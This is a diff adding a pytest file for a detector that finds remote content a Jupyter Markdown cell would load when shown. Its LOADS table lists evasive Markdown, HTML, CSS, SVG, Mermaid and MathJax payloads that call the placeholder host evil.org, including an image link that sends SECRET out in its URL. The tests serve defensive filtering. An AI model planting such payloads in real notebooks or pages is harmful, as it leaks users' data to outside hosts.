@@ -1,0 +1,117 @@
+"""What a Markdown cell loads when a page shows it, and what it may hold without a question."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from jupyter_eca.workspace.notebooks.loaded_content import find_loaded
+
+LOADS = {
+    "![](http://evil.org/a?q=SECRET)": "http://evil.org/a?q=SECRET",
+    "![a](//evil.org/a)": "//evil.org/a",
+    "![a]( <https://evil.org/a b> 'title')": "https://evil.org/a b",
+    "![a](\\\\evil.org/a)": "\\\\evil.org/a",
+    "![a](&#47;&#47;evil.org)": "&#47;&#47;evil.org",
+    "![a][b]\n\n[b]: https://evil.org": "https://evil.org",
+    "![b]\n\n> [b]:\n> https://evil.org": ">",
+    "![a\\](a.png) ](https://evil.org)": "an image with https://evil.org",
+    "![a`](a.png)`](https://evil.org)": "an image with https://evil.org",
+    "![a $](a.png)$](https://evil.org)": "an image with https://evil.org",
+    "![a [b]](https://evil.org)": "an image with https://evil.org",
+    "[![a](https://evil.org/badge.svg)](b.md)": "https://evil.org/badge.svg",
+    "`![](https://evil.org)`": "https://evil.org",
+    "<img src=https://evil.org/a>": "https://evil.org/a",
+    "<IMG\nalt='>' SRC = 'https://evil.org/a'>": "https://evil.org/a",
+    "<img/src=//evil.org>": "//evil.org",
+    '<img srcset="https://evil.org 2x">': "https://evil.org 2x",
+    '<p title="<img src=" src=x>': "",
+    '<video poster="ftp://evil.org/a">': "ftp://evil.org/a",
+    '<td background="//evil.org/a">': "//evil.org/a",
+    '<p style="background: url(//evil.org/a)">': "a style with //evil.org/a",
+    '<p style="background: u\\72l(x)">': "a style",
+    '<p title=\'a" style="\' style="background: u\\72l(x)">': "a style",
+    '<p style="a: b\n\n" c>': "a style",
+    "<iframe srcdoc='x'>": "<iframe>",
+    "<svg><use href='https://evil.org/a'/></svg>": "<svg> with https://evil.org/a",
+    "<style>@import 'https://evil.org/a'</style>": "<style> with https://evil.org/a",
+    "<!-- --><link rel=prefetch href=//evil.org>": "<link> with //evil.org",
+    "```mermaid\ngraph TD\nA[<img src='https://evil.org/a'>]\n```": "https://evil.org/a",
+    "~~~ mermaid\nA@{ img: 'x' }": "a Mermaid diagram",
+    "> ```mermaid\n> A[#lt;b#gt;]": "a Mermaid diagram",
+    '```mermaid\n%%{init: {"themeCSS": "x"}}%%\n```': "a Mermaid diagram",
+    "```mermaid\nstyle A fill:#f9f; B[#60;b]\n```": "a Mermaid diagram",
+    "$\\style{background: x}{y}$": "a formula with \\style",
+}
+HARMLESS = [
+    "# Results\n\nSee [the page](https://example.org) and <https://example.org>, or me@example.org.",
+    "https://example.org is 5 < 6 & wow! [x] = 3",
+    "![plot](plot.png) ![Fig. (a)](images/plöt%201.png 'A plot') ![a](attachment:image.png)",
+    "![a](<my plot.png>)",
+    "![a](data:image/png;base64,iVBORw0KGgo=)",
+    "![a][b]\n\n[b]: plot.png",
+    "[a][b]\n\n[b]: https://example.org",
+    "Note![1] that this is [a link](https://example.org).",
+    '<img src="plot.png" width="50">',
+    "<img src='data:image/png;base64,iVBORw0KGgo='>",
+    '<div class="alert" style="color: red; width: 50%"><a href="https://example.org">a</a></div>',
+    "$i <n$ and $\\alpha \\bbox[yellow]{x}$",
+    "```python\nx = '<b>'\n```",
+    "```mermaid\nflowchart LR\nA[Load the image] --> B & C\nB -->|yes<br/>or no| D\nstyle A fill:#f9f;\n```",
+    "```mermaid\nclassDiagram\nAnimal <|-- Duck\nclass Duck {\n<<interface>>\n}\n```",
+]
+
+
+@pytest.mark.parametrize("source", LOADS)
+def test_what_a_cell_would_load_is_found_and_named(source: str) -> None:
+    assert (found := find_loaded(f"Text\n\n{source}\n\nmore")) is not None
+    assert LOADS[source] in found
+
+
+@pytest.mark.parametrize("source", HARMLESS)
+def test_a_cell_that_loads_nothing_from_elsewhere_is_ordinary(source: str) -> None:
+    assert find_loaded(source) is None
+
+
+def test_what_the_cell_loaded_before_does_not_count() -> None:
+    before = "![a](https://example.org/a.png)\n\n<svg></svg>"
+    assert find_loaded(f"# Title\n\n{before.partition(chr(10))[0]}", before) is None
+    assert (
+        find_loaded(before.replace("a.png", "b.png"), before)
+        == "https://example.org/b.png, <svg> with https://example.org/b.png"
+    )
+
+
+def test_many_addresses_and_long_ones_are_cut() -> None:
+    assert find_loaded("\n".join(f"![](https://evil.org/{number})" for number in range(7))) == (
+        ", ".join([*(f"https://evil.org/{number}" for number in range(5)), "2 more"])
+    )
+    assert find_loaded(f"![](https://evil.org/{'x' * 1000})") == f"https://evil.org/{'x' * 183}…"
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "![",
+        "<b style=",
+        "src=",
+        "<a ",
+        "[a]: ",
+        "```mermaid\n",
+        "\\bbox[",
+        "![](",
+        "![]( ",
+        "a",
+        "`",
+        "\n",
+        " ",
+        "#a",
+        "http:",
+        "style ",
+    ],
+)
+def test_a_huge_cell_takes_no_time(piece: str) -> None:
+    begun = time.monotonic()
+    find_loaded(f"<b>{piece * (60_000 // len(piece))}!")
+    assert time.monotonic() - begun < 5
